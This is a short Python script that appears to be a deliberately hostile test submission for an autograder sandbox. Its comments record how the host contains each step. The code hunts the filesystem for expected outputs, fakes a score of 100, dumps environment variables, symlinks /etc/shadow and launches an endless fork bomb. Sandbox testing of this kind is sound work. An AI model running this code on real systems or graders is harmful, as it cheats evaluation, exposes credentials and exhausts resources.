"""hw1 (Fay): hostile. Looks for expected outputs and secrets, claims a score, forks without end."""
import glob, json, os
places = ["/data", "/submission", "/grading", "/srv", "/opt", "/home", "/root", "/tmp", "/var"]
found = {p: None for place in places for p in glob.glob(place + "/**", recursive=True) if "expected" in p or p.startswith("/data")}
json.dump(sorted(found)[:100], open("/out/found.json", "w"))
json.dump({"score": 100}, open("/out/score.json", "w"))           # never read by the host
json.dump(dict(os.environ), open("/out/environment.json", "w"))   # nothing secret is passed
try:
    os.symlink("/etc/shadow", "/out/softmax.json")                 # rejected by output collection
except OSError:
    pass
while True:
    try:
        os.fork()                                                  # contained by the PID limit, stopped once it keeps it full
    except OSError:
        pass                                                       # keep trying: this one never gives up
